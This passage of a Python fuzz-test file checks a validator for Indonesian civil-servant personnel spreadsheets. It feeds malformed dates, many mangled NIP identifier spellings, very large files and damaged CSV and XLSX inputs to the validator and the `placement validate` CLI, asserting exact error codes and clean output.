    assert frames["pegawai"]["tmt_golongan"].iloc[0].date() == expected
    if expected.year == 1900:  # read as written, then refused as implausible
        assert errors_at(issues, f"{XLSX_NAME}:pegawai", 2, "tmt_golongan") == {
            "TANGGAL_TERLALU_AWAL"
        }
    else:
        assert not has_errors(issues), [(i.code, i.message_id) for i in issues]


@pytest.mark.parametrize("value", ["kemarin", True, -5, 1e300, "12:00"], ids=repr)
def test_workbook_garbage_date_cells_are_located(base: dict[str, Any], value: Any) -> None:
    def edit(ws: Any) -> None:
        ws.cell(3, base["rows"]["pegawai"][0].index("tmt_golongan") + 1, value)

    with tempfile.TemporaryDirectory(prefix="fuzz-") as tmp:
        write_workbook(Path(tmp) / XLSX_NAME, dict(base["rows"]), edit)
        ds, issues = outcome(Path(tmp))
    assert ds is None
    assert errors_at(issues, f"{XLSX_NAME}:pegawai", 3, "tmt_golongan") == {"TANGGAL_TIDAK_VALID"}


# --- NIPs -----------------------------------------------------------------------------------------


def _nip_cases(nip: str) -> list[tuple[str, str | None]]:
    """(cell text, expected error code at the cell or None = reads as ``nip``)."""
    spaced = f"{nip[:8]} {nip[8:14]} {nip[14]} {nip[15:]}"
    return [
        (spaced, None),
        (f"'{nip}", None),
        (f" {nip}\t", None),
        (f"{nip[:8]}.{nip[8:14]}.{nip[14]}.{nip[15:]}", None),
        (f"{float(nip):.5E}", "NIP_EXCEL_ANGKA"),  # 1.97308E+17
        (f"{float(nip):.5e}".replace(".", ","), "NIP_EXCEL_ANGKA"),  # 1,97308e+17
        (f"{float(nip):.1f}", "NIP_EXCEL_ANGKA"),  # 197308261997021008.0: digits lost
        (f"{nip}.0", "NIP_EXCEL_ANGKA"),
        (nip[1:], "NIP_PANJANG"),  # a lost leading digit
        (nip + "0", "NIP_PANJANG"),
        (nip[:10], "NIP_PANJANG"),
        (nip[:17] + "O", "NIP_BUKAN_ANGKA"),  # letter O for zero
        ("NIP" + nip, "NIP_BUKAN_ANGKA"),
        (nip[:16] + "²1", "NIP_BUKAN_ANGKA"),  # isdigit() but not a digit 0-9
        (nip.translate(str.maketrans("0123456789", "٠١٢٣٤٥٦٧٨٩")), "NIP_BUKAN_ANGKA"),
        (nip.translate(str.maketrans("0123456789", "０１２３４５６７８９")), "NIP_BUKAN_ANGKA"),
    ]


def test_nip_variants(base: dict[str, Any]) -> None:
    """Variants of each row's own NIP, one per row: harmless spellings read as the NIP (one
    file), the others are reported at their cell (another file)."""
    rows = base["rows"]["pegawai"]
    nips = [r[0] for r in rows[1:]]
    good = [text for text, code in _nip_cases(nips[0]) if code is None]
    bad = [code for _, code in _nip_cases(nips[0]) if code is not None]
    good_rows, bad_rows = rows, rows
    for i in range(len(good)):
        good_rows = with_cell(good_rows, i, "nip", [t for t, c in _nip_cases(nips[i]) if not c][i])
    for i in range(len(bad)):
        bad_rows = with_cell(bad_rows, i, "nip", [t for t, c in _nip_cases(nips[i]) if c][i])
    with folder_like(base["csv"]) as folder:
        write_rows(folder / "pegawai.csv", good_rows)
        ds, issues = outcome(folder)
    assert ds is not None, [(i.code, i.row, i.message_id) for i in issues]
    assert list(ds.pegawai["nip"]) == nips
    with folder_like(base["csv"]) as folder:
        write_rows(folder / "pegawai.csv", bad_rows)
        ds, issues = outcome(folder)
    assert ds is None
    for i, code in enumerate(bad):
        assert errors_at(issues, "pegawai.csv", i + 2, "nip") == {code}, (bad_rows[i + 1][0], code)


@pytest.mark.parametrize(
    "value",
    [197308261997021001, 1.97308e17, 197308261997021001.0, 10**30, 7],
    ids=["int", "float-rounded", "float", "huge-int", "small"],
)
def test_numeric_nip_cells_in_a_workbook(base: dict[str, Any], value: int | float) -> None:
    with tempfile.TemporaryDirectory(prefix="fuzz-") as tmp:
        write_workbook(Path(tmp) / XLSX_NAME, dict(base["rows"]), lambda ws: ws.cell(2, 1, value))
        ds, issues = outcome(Path(tmp))
    assert ds is None
    assert errors_at(issues, f"{XLSX_NAME}:pegawai", 2, "nip") == {"NIP_EXCEL_ANGKA"}


@settings(max_examples=examples(12), deadline=None)
@given(text=st.text(alphabet="0123456789 .,-'eE+O²١\t", max_size=24))
def test_nip_like_texts(base: dict[str, Any], text: str) -> None:
    with folder_like(base["csv"]) as folder:
        write_rows(folder / "pegawai.csv", with_cell(base["rows"]["pegawai"], 0, "nip", text))
        ds, issues = outcome(folder)
    if ds is None:
        assert errors_at(issues, "pegawai.csv", 2, "nip") or any(
            i.file == "kompetensi.csv" for i in issues
        )


# --- size -----------------------------------------------------------------------------------------

BIG_HEADER = (
    "nip,nama,tanggal_lahir,jenis_kelamin,status_kepegawaian,gol_ruang,tmt_golongan,"
    "jenis_jabatan,unit_kerja,pendidikan,kotak_talenta,predikat_kinerja_1,predikat_kinerja_2\r\n"
)


def write_big_pegawai(path: Path, n: int, bad_last_grade: bool) -> None:
    """``n`` valid pelaksana rows with distinct NIPs (optionally a bad golongan in the last)."""
    start = date(1965, 1, 1)
    with path.open("w", encoding="utf-8", newline="") as fh:
        fh.write(BIG_HEADER)
        for i in range(n):
            born = start + timedelta(days=i // 1000)
            g = 1 + i % 2
            nip = f"{born:%Y%m%d}{born.year + 25}{1 + i % 12:02d}{g}{i % 1000:03d}"
            grade = "IIII/z" if bad_last_grade and i == n - 1 else "III/b"
            fh.write(
                f"{nip},Pegawai {i},{born:%d-%m-%Y},{'L' if g == 1 else 'P'},PNS,{grade},"
                f"2019-04-01,PELAKSANA,Dinas {i % 40},S1,{1 + i % 9},Baik,Baik\r\n"
            )


def test_large_pegawai_file_is_read_and_located_to_its_last_row(base: dict[str, Any]) -> None:
    """10^5 rows in the ci profile, 10^6 in nightly."""
    n = 10**6 if NIGHTLY else 10**5
    with tempfile.TemporaryDirectory(prefix="fuzz-") as tmp:
        folder = Path(tmp)
        shutil.copy(base["csv"] / "jabatan.csv", folder / "jabatan.csv")
        write_big_pegawai(folder / "pegawai.csv", n, bad_last_grade=True)
        ds, issues = outcome(folder)
    assert ds is None
    assert [(i.row, i.column, i.code) for i in issues if has_errors([i])] == [
        (n + 1, "gol_ruang", "GOLONGAN_TIDAK_DIKENAL")
    ]


# --- through the CLI ------------------------------------------------------------------------------


def _cli_cases(base: dict[str, Any], root: Path) -> dict[str, tuple[Path, str]]:
    """Damaged data folders for ``placement validate`` and the code each must report."""
    out: dict[str, tuple[Path, str]] = {}

    def csv_case(name: str, table: str, content: bytes, code: str) -> None:
        folder = root / name
        shutil.copytree(base["csv"], folder)
        (folder / f"{table}.csv").write_bytes(content)
        out[name] = (folder, code)

    csv_case("random-bytes", "pegawai", bytes(range(256)) * 8, "KOLOM_WAJIB_TIDAK_ADA")
    csv_case("empty", "jabatan", b"", "FILE_KOSONG")
    csv_case(
        "utf16-cut",
        "pegawai",
        (base["csv"] / "pegawai.csv").read_text(encoding="utf-8").encode("utf-16")[:-1],
        "FILE_TIDAK_TERBACA",
    )
    rows = with_cell(base["rows"]["pegawai"], 2, "nip", "\x1b[2J" + "1" * 10**4)
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    csv_case("escape-in-nip", "pegawai", buffer.getvalue().encode(), "NIP_BUKAN_ANGKA")
    rows = with_cell(base["rows"]["pegawai"], 0, "nip", "1973082619970210²1")
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    csv_case("superscript-nip", "pegawai", buffer.getvalue().encode(), "NIP_BUKAN_ANGKA")
    folder = root / "random-xlsx"
    folder.mkdir()
    (folder / XLSX_NAME).write_bytes(b"PK\x03\x04" + bytes(range(256)) * 4)
    out["random-xlsx"] = (folder, "FILE_TIDAK_TERBACA")
    return out


def test_cli_validate_exits_1_without_traceback(base: dict[str, Any], tmp_path: Path) -> None:
    for name, (folder, code) in _cli_cases(base, tmp_path).items():
        result = CliRunner().invoke(main, ["validate", str(folder)])
        assert result.exit_code == 1, (name, result.output)
        assert isinstance(result.exception, SystemExit), name
        assert "Traceback" not in result.output, name
        assert code in result.output, (name, result.output[-2000:])
        assert "GALAT" in result.output, name
        assert "\x1b" not in result.output and len(result.output) < 100_000, name
